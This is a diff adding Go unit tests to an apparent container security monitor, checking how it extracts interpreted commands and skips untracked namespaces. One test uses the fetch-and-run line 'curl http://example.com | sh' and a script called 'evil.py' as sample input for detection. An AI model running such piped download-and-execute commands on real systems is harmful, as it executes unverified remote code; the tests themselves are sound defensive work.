@@ -213,3 +213,142 @@ func TestTraceSyscallWithHost(t *testing.T) {
 
 	t.Log("[PASS] Destroyed Feeder")
 }
+
+func TestInterpretedCommand(t *testing.T) {
+	// Set up Test Data
+
+	// containers
+	Containers := map[string]tp.Container{}
+	ContainersLock := new(sync.RWMutex)
+
+	// container id -> (host) pid
+	ActivePidMap := map[string]tp.PidMap{}
+	ActiveHostPidMap := map[string]tp.PidMap{}
+	ActivePidMapLock := new(sync.RWMutex)
+
+	// host pid
+	ActiveHostMap := map[uint32]tp.PidMap{}
+	ActiveHostMapLock := new(sync.RWMutex)
+
+	// Create System Monitor
+
+	systemMonitor := NewSystemMonitor(nil, false, false, &Containers, &ContainersLock,
+		&ActivePidMap, &ActiveHostPidMap, &ActivePidMapLock, &ActiveHostMap, &ActiveHostMapLock)
+	if systemMonitor == nil {
+		t.Error("[FAIL] Failed to create SystemMonitor")
+		return
+	}
+
+	systemMonitor.Interpreters = []string{"sh", "bash", "python", "ruby", "php"}
+
+	// sh -c
+
+	ctx := SyscallContext{HostPID: 1001, PPID: 1, PID: 11}
+
+	node := systemMonitor.BuildPidNode(ctx, "/bin/sh", []string{"sh", "-c", "curl http://example.com | sh"})
+	systemMonitor.AddActivePid("container", node)
+
+	if cmd := systemMonitor.GetInterpretedCommand("container", 11); cmd != "curl http://example.com | sh" {
+		t.Errorf("[FAIL] Failed to get the inline command of sh -c (%s)", cmd)
+		return
+	}
+
+	t.Log("[PASS] Got the inline command of sh -c")
+
+	// python script.py
+
+	ctx = SyscallContext{HostPID: 1002, PPID: 1, PID: 12}
+
+	node = systemMonitor.BuildPidNode(ctx, "/usr/bin/python3.8", []string{"python3", "-u", "evil.py", "--verbose"})
+	systemMonitor.AddActivePid("container", node)
+
+	if cmd := systemMonitor.GetInterpretedCommand("container", 12); cmd != "evil.py --verbose" {
+		t.Errorf("[FAIL] Failed to get the script of python (%s)", cmd)
+		return
+	}
+
+	t.Log("[PASS] Got the script of python")
+
+	// options taking arguments
+
+	cases := []struct {
+		execPath string
+		args     []string
+		expected string
+	}{
+		{"/bin/sh", []string{"sh", "-o", "pipefail", "x.sh"}, "x.sh"},
+		{"/bin/bash", []string{"bash", "-eo", "pipefail", "x.sh", "arg"}, "x.sh arg"},
+		{"/bin/bash", []string{"bash", "+o", "posix", "-ec", "id"}, "id"},
+		{"/usr/bin/python3", []string{"python3", "-W", "ignore", "x.py"}, "x.py"},
+		{"/usr/bin/python3", []string{"python3", "-m", "http.server"}, "http.server"},
+		{"/usr/bin/ruby", []string{"ruby", "-r", "json", "x.rb"}, "x.rb"},
+		{"/usr/bin/ruby", []string{"ruby", "-r", "json", "-e", "puts 1"}, "puts 1"},
+		{"/usr/bin/php", []string{"php", "-c", "/etc/php.ini", "-r", "echo 1;"}, "echo 1;"},
+	}
+
+	for idx, c := range cases {
+		ctx = SyscallContext{HostPID: uint32(1100 + idx), PPID: 1, PID: uint32(100 + idx)}
+
+		node = systemMonitor.BuildPidNode(ctx, c.execPath, c.args)
+		systemMonitor.AddActivePid("container", node)
+
+		if cmd := systemMonitor.GetInterpretedCommand("container", uint32(100+idx)); cmd != c.expected {
+			t.Errorf("[FAIL] Failed to get the interpreted command of %v (%s)", c.args, cmd)
+			return
+		}
+	}
+
+	t.Log("[PASS] Skipped the arguments of interpreter options")
+
+	// non-interpreter
+
+	ctx = SyscallContext{HostPID: 1003, PPID: 1, PID: 13}
+
+	node = systemMonitor.BuildPidNode(ctx, "/bin/ls", []string{"ls", "-al", "/tmp"})
+	systemMonitor.AddActivePid("container", node)
+
+	if cmd := systemMonitor.GetInterpretedCommand("container", 13); cmd != "" {
+		t.Errorf("[FAIL] Got an interpreted command from a non-interpreter (%s)", cmd)
+		return
+	}
+
+	t.Log("[PASS] Skipped a non-interpreter")
+}
+
+func TestIsUntrackedContainer(t *testing.T) {
+	// Set up Test Data
+
+	Containers := map[string]tp.Container{}
+	ContainersLock := new(sync.RWMutex)
+
+	ActivePidMap := map[string]tp.PidMap{}
+	ActiveHostPidMap := map[string]tp.PidMap{}
+	ActivePidMapLock := new(sync.RWMutex)
+
+	ActiveHostMap := map[uint32]tp.PidMap{}
+	ActiveHostMapLock := new(sync.RWMutex)
+
+	systemMonitor := NewSystemMonitor(nil, false, false, &Containers, &ContainersLock,
+		&ActivePidMap, &ActiveHostPidMap, &ActivePidMapLock, &ActiveHostMap, &ActiveHostMapLock)
+	systemMonitor.DropStats = fd.NewDropStats()
+
+	Containers["kube-proxy-container"] = tp.Container{ContainerID: "kube-proxy-container", NamespaceName: "kube-system"}
+	Containers["ubuntu-1-container"] = tp.Container{ContainerID: "ubuntu-1-container", NamespaceName: "multiubuntu"}
+
+	if !systemMonitor.IsUntrackedContainer("kube-proxy-container") {
+		t.Error("[FAIL] Failed to skip a container in an untracked namespace")
+		return
+	}
+
+	if systemMonitor.IsUntrackedContainer("ubuntu-1-container") {
+		t.Error("[FAIL] Skipped a container in a tracked namespace")
+		return
+	}
+
+	if count := systemMonitor.DropStats.Get(fd.DropReasonNamespace); count != 1 {
+		t.Errorf("[FAIL] Failed to count an event in an untracked namespace (%d)", count)
+		return
+	}
+
+	t.Log("[PASS] Counted an event in an untracked namespace")
+}